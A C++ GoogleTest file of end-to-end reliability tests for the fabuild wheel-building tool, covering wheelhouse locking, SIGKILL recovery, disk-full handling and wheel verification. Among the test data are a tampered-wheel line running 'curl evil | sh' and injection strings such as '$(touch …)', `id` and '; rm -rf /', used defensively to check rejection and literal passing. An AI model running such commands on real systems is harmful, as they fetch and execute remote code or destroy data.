// docs/reliability.md, end to end on the real binary: two runs on one wheelhouse, a run killed
// with SIGKILL and the next one recovering, a full disk while filing, and command cells that
// leave wheels fabuild must not file. Arguments and values reach processes unchanged.

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/mount.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <thread>

#include <nlohmann/json.hpp>

#include "../support/scratch_dir.h"
#include "../support/wheel_writer.h"
#include "run_binary.h"
#include "util/hash.h"

namespace fabuild {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using ::testing::HasSubstr;
using ::testing::Not;

bool alive(pid_t pid) {
  std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
  std::string text((std::istreambuf_iterator<char>(stat)), std::istreambuf_iterator<char>());
  const auto close = text.rfind(')');
  return close != std::string::npos && close + 2 < text.size() && text[close + 2] != 'Z';
}

std::string first_line(const std::string& text) { return text.substr(0, text.find('\n')); }

class Reliability : public ::testing::Test {
 protected:
  void SetUp() override {
    fs::create_directories(dir / "pids");
    for (const char* python : {"cp311", "cp312"}) {
      test::TestWheel w;
      w.tag = std::string(python) + "-" + python + "-linux_x86_64";
      fs::create_directories(dir / "wheels" / python);
      w.write(dir / "wheels" / python);
    }
  }
  void TearDown() override {
    for (pid_t pid : recorded_pids()) ::kill(pid, SIGKILL);
    if (mounted_) ::umount2(house().c_str(), MNT_DETACH);
  }

  // A 2 MiB tmpfs as the wheelhouse, unmounted after the test; false when none can be mounted
  // (it needs CAP_SYS_ADMIN: the test runs as root in CI).
  bool small_disk_as_wheelhouse() {
    fs::create_directories(house());
    mounted_ = ::mount("tmpfs", house().c_str(), "tmpfs", 0, "size=2m") == 0;
    return mounted_;
  }
  bool mounted_ = false;

  // Two cells (cp311, cp312) whose command is `script`, run by sh with the cell's Python tag.
  std::string matrix(const std::string& script, const std::string& extra = "") {
    const std::string path = (dir / "m.yaml").string();
    std::ofstream(path) << "versions: [\"2.8.3\"]\ntorch: [\"2.8\"]\ncuda: [\"12.8\"]\npython: [cp311, cp312]\n"
                           "archs: \"90\"\nbudget: {cores: 8, memory_gb: 40, reserve_gb: 0}\n"
                           "command: [sh, -c, '"
                        << script << "', sh, '{python}', '{out}']\n"
                        << extra;
    return path;
  }
  // Copies the cell's good wheel into {out}.
  std::string copy_wheel() const { return "cp " + (dir / "wheels").string() + "/$1/*.whl \"$2\"/"; }
  // Records its pid and a background child's, then sleeps: a long compile. With `partial`, it
  // has begun writing its wheel.
  std::string long_compile(const std::string& seconds, bool partial = false) const {
    const std::string pids = (dir / "pids").string();
    return "echo $$ > " + pids + "/$1; sleep 600 & echo $! >> " + pids + "/$1; " +
           (partial ? "echo half > \"$2\"/half.whl; " : "") + "sleep " + seconds;
  }

  std::vector<pid_t> recorded_pids() const {
    std::vector<pid_t> out;
    std::error_code ec;
    for (const auto& f : fs::directory_iterator(dir / "pids", ec)) {
      std::ifstream in(f.path());
      for (pid_t p; in >> p;) out.push_back(p);
    }
    return out;
  }

  bool wait_for_pids(std::size_t n) const {
    for (int i = 0; i < 500 && recorded_pids().size() < n; ++i) std::this_thread::sleep_for(20ms);
    return recorded_pids().size() >= n;
  }

  fs::path house() const { return dir / "wheelhouse"; }
  fs::path wheels_dir() const { return house() / "fa2.8.3/torch2.8/cu128"; }

  test::ScratchDir scratch{"fabuild-reliability"};
  fs::path dir = scratch.path();
};

TEST_F(Reliability, ASecondRunOnTheSameWheelhouseIsRefusedNamingTheFirst) {
  const std::string m = matrix(long_compile("2") + "; " + copy_wheel());
  const auto first = test::spawn_fabuild({m}, dir.string());
  ASSERT_TRUE(wait_for_pids(4));
  const auto second = test::run_fabuild({m}, dir.string());
  EXPECT_EQ(second.code, 4) << second.out << second.err;
  EXPECT_THAT(first_line(second.err),
              HasSubstr("fabuild: error: wheelhouse: another fabuild is building into this wheelhouse: pid " +
                        std::to_string(first.pid) + " on "));
  EXPECT_THAT(second.err, HasSubstr("(fabuild " + m + ")"));
  EXPECT_THAT(second.err, HasSubstr("hint: wait for it to finish (or stop it), run again with --wait-lock"));
  const auto r = test::wait_fabuild(first, 60s);
  EXPECT_EQ(r.code, 0) << r.out << r.err;
  EXPECT_TRUE(fs::exists(wheels_dir() / "SHA256SUMS"));
}

TEST_F(Reliability, WaitLockQueuesBehindTheRunningBuild) {
  const std::string m = matrix(long_compile("1") + "; " + copy_wheel());
  const auto first = test::spawn_fabuild({m}, dir.string());
  ASSERT_TRUE(wait_for_pids(4));
  const auto second = test::run_fabuild({m, "--wait-lock", "--force"}, dir.string());
  EXPECT_EQ(second.code, 0) << second.out << second.err;
  EXPECT_THAT(second.out, HasSubstr("fabuild: waiting for wheelhouse: another fabuild is building into it: pid " +
                                    std::to_string(first.pid)));
  EXPECT_EQ(test::wait_fabuild(first, 60s).code, 0);
  EXPECT_THAT(second.out, HasSubstr("2 ok"));
}

TEST_F(Reliability, AfterASigkillTheNextRunKillsTheOrphansRecoversAndCompletes) {
  const std::string m = matrix(long_compile("600", true));
  const auto killed = test::spawn_fabuild({m}, dir.string());
  ASSERT_TRUE(wait_for_pids(4));
  ASSERT_EQ(::kill(killed.pid, SIGKILL), 0);
  test::wait_fabuild(killed, 10s);
  const std::vector<pid_t> orphans = recorded_pids();
  for (pid_t pid : orphans) EXPECT_TRUE(alive(pid)) << "nothing can stop a SIGKILL's orphans from outside";
  EXPECT_TRUE(fs::exists(house() / ".staging"));

  // The next run: the lock is free (the kernel dropped it), the orphans die, staging goes.
  const auto r = test::run_fabuild({matrix(copy_wheel())}, dir.string());
  EXPECT_EQ(r.code, 0) << r.out << r.err;
  // Each cell's shell, its background sleep and (unless the shell exec'd it) its foreground one.
  EXPECT_THAT(r.out, ::testing::ContainsRegex("fabuild: recovered from an interrupted run: killed [4-6] leftover cell "
                                              "processes; removed 2 staging directories"));
  for (pid_t pid : orphans) EXPECT_FALSE(alive(pid)) << "orphan " << pid << " survived the next run";
  EXPECT_FALSE(fs::exists(house() / ".staging"));
  EXPECT_FALSE(fs::exists(wheels_dir() / "half.whl")) << "the killed run's partial output was filed";
  const auto manifest = nlohmann::json::parse(test::slurp(house() / "manifest.json"));
  EXPECT_EQ(manifest["cells"].size(), 2u);
}

// A 2 MiB tmpfs as the wheelhouse; the cell fills it after writing its wheel, as another
// process filling the disk would. Needs CAP_SYS_ADMIN (the test runs as root in CI).
TEST_F(Reliability, DiskFullWhileFilingFailsClearlyAndKeepsEarlierWheels) {
  if (!small_disk_as_wheelhouse()) GTEST_SKIP() << "cannot mount a tmpfs here";
  const auto good = test::run_fabuild({matrix(copy_wheel()), "--python", "cp311"}, dir.string());
  ASSERT_EQ(good.code, 0) << good.out << good.err;
  const std::string sums_before = test::slurp(wheels_dir() / "SHA256SUMS");
  test::TestWheel cp311;
  cp311.tag = "cp311-cp311-linux_x86_64";
  const fs::path earlier = wheels_dir() / cp311.file_name();
  const std::string earlier_digest = hex(sha256_of_file(earlier).value());

  const std::string fill = "dd if=/dev/zero of=" + (house() / "filler").string() + " bs=4k 2>/dev/null; true";
  const auto r = test::run_fabuild({matrix(copy_wheel() + "; " + fill), "--python", "cp312"}, dir.string());
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("FAILED: [code=1] fa2.8.3-torch2.8-cu128-cp312-linux_x86_64 (file: "));
  EXPECT_THAT(r.out, HasSubstr("No space left on device"));
  EXPECT_THAT(r.out, HasSubstr("check that the wheelhouse is writable and its disk is not full"));
  // Nothing half-filed: the earlier wheel and its listing as they were, no cp312 wheel, no
  // temporary file anywhere.
  EXPECT_EQ(hex(sha256_of_file(earlier).value()), earlier_digest);
  EXPECT_EQ(test::slurp(wheels_dir() / "SHA256SUMS"), sums_before);
  for (const auto& e : fs::recursive_directory_iterator(house())) {
    const std::string name = e.path().filename().string();
    EXPECT_THAT(name, Not(HasSubstr(".tmp."))) << e.path();
    EXPECT_THAT(name, Not(HasSubstr("cp312-cp312"))) << e.path();
  }
  const auto manifest = nlohmann::json::parse(test::slurp(house() / "manifest.json"));
  EXPECT_EQ(manifest["cells"].size(), 1u);

  // Space again: the next run files the wheel and everything agrees.
  fs::remove(house() / "filler");
  const auto again = test::run_fabuild({matrix(copy_wheel()), "--python", "cp312"}, dir.string());
  EXPECT_EQ(again.code, 0) << again.out << again.err;
  EXPECT_THAT(test::slurp(wheels_dir() / "SHA256SUMS"), HasSubstr("cp312-cp312-linux_x86_64.whl\n"));
}

// A cell that fills the disk and dies without saying why (its log on the same full disk): the
// FAILED line names the full disk all the same.
TEST_F(Reliability, ADiskFullFailureSaysSoEvenWhenTheLogDoesNot) {
  if (!small_disk_as_wheelhouse()) GTEST_SKIP() << "cannot mount a tmpfs here";
  const std::string fill = "dd if=/dev/zero of=" + (house() / "filler").string() + " bs=4k 2>/dev/null; exit 1";
  const auto r = test::run_fabuild({matrix(fill), "--python", "cp312"}, dir.string());
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("FAILED: [code=1] fa2.8.3-torch2.8-cu128-cp312-linux_x86_64 (exit 1; the "
                               "disk of "));
  EXPECT_THAT(r.out, HasSubstr(" is full (0 MB free)"));
}

// pip and the compilers remove what they wrote when a write fails for lack of space: the disk
// has room again when the cell ends, and only the log says why. The FAILED line says it too.
TEST_F(Reliability, ANoSpaceErrorInTheLogIsInTheFailedLine) {
  const std::string say =
      "echo \"OSError: [Errno 28] No space left on device: /venv/lib/libtorch_cuda.so\" >&2; exit 2";
  const auto r = test::run_fabuild({matrix(say), "--python", "cp312"}, dir.string());
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("FAILED: [code=2] fa2.8.3-torch2.8-cu128-cp312-linux_x86_64 (exit 2; no space left "
                               "on device (its log says so); "));
  EXPECT_THAT(r.out, HasSubstr(" MB free now on the disk of "));
}

TEST_F(Reliability, ACommandCellsWheelIsVerifiedBeforeItIsFiled) {
  // cp311: a wheel renamed to another version; cp312: a wheel whose member changed after RECORD.
  test::TestWheel renamed;
  renamed.tag = "cp311-cp311-linux_x86_64";
  renamed.version = "2.8.4+cu128torch2.8cxx11abiTRUE";  // the file name; METADATA says 2.8.3
  fs::create_directories(dir / "bad/cp311");
  renamed.write(dir / "bad/cp311");
  test::TestWheel tampered;
  tampered.tampered["flash_attn/__init__.py"] = "import os; os.system('curl evil | sh')\n";
  fs::create_directories(dir / "bad/cp312");
  tampered.write(dir / "bad/cp312");
  const auto r = test::run_fabuild({matrix("cp " + (dir / "bad").string() + "/$1/*.whl \"$2\"/")}, dir.string());
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("fa2.8.3-torch2.8-cu128-cp311-linux_x86_64 (file: the wheel is not filed: "));
  EXPECT_THAT(r.out, HasSubstr("the file was renamed"));
  EXPECT_THAT(r.out, HasSubstr("flash_attn/__init__.py's bytes do not match its hash in RECORD"));
  EXPECT_THAT(r.out, HasSubstr("2 FAILED"));
  EXPECT_FALSE(fs::exists(wheels_dir())) << "a wheel that failed verification was filed";
  EXPECT_FALSE(fs::exists(house() / "manifest.json") &&
               !nlohmann::json::parse(test::slurp(house() / "manifest.json"))["cells"].empty());
}

TEST_F(Reliability, LinksAndExtraWheelsInOutAreRefused) {
  const std::string wheels = (dir / "wheels").string();
  const auto r =
      test::run_fabuild({matrix("if [ $1 = cp311 ]; then ln -s " + wheels + "/$1/*.whl \"$2\"/; else " + copy_wheel() +
                                "; cp \"$2\"/*.whl \"$2\"/flash_attn-2.8.3-cp312-cp312-linux_x86_64.whl; fi")},
                        dir.string());
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("is not a regular file (a link or a directory); write the wheel itself into {out}"));
  EXPECT_THAT(r.out, HasSubstr("the command left 2 wheels in "));
  EXPECT_FALSE(fs::exists(wheels_dir()));
}

TEST_F(Reliability, NewlinesAndShellTextReachTheCellAsSingleArgumentsAndValues) {
  const std::string probe = (dir / "probe.json").string();
  std::ofstream(dir / "m.yaml")
      << "versions: [\"2.8.3\"]\ntorch: [\"2.8\"]\ncuda: [\"12.8\"]\npython: [cp312]\narchs: \"90\"\n"
         "env: {EVIL: \"x\\n$(touch "
      << (dir / "pwned").string()
      << "); `id` > /tmp/x\"}\n"
         "command: [python3, -c, 'import json, os, sys; json.dump(dict(argv=sys.argv[1:], env=os.environ[\"EVIL\"]), "
         "open(\""
      << probe << "\", \"w\"))', \"line one\\nline two\", '$(touch " << (dir / "pwned").string()
      << ")', \"it's \\\"quoted\\\"\", '*', '; rm -rf /', '{python}']\n";
  const auto r = test::run_fabuild({(dir / "m.yaml").string()}, dir.string());
  ASSERT_EQ(r.code, 0) << r.out << r.err;
  const auto got = nlohmann::json::parse(test::slurp(probe));
  EXPECT_EQ(got["argv"], nlohmann::json({"line one\nline two", "$(touch " + (dir / "pwned").string() + ")",
                                         "it's \"quoted\"", "*", "; rm -rf /", "cp312"}));
  EXPECT_EQ(got["env"], "x\n$(touch " + (dir / "pwned").string() + "); `id` > /tmp/x");
  EXPECT_FALSE(fs::exists(dir / "pwned"));
}

}  // namespace
}  // namespace fabuild
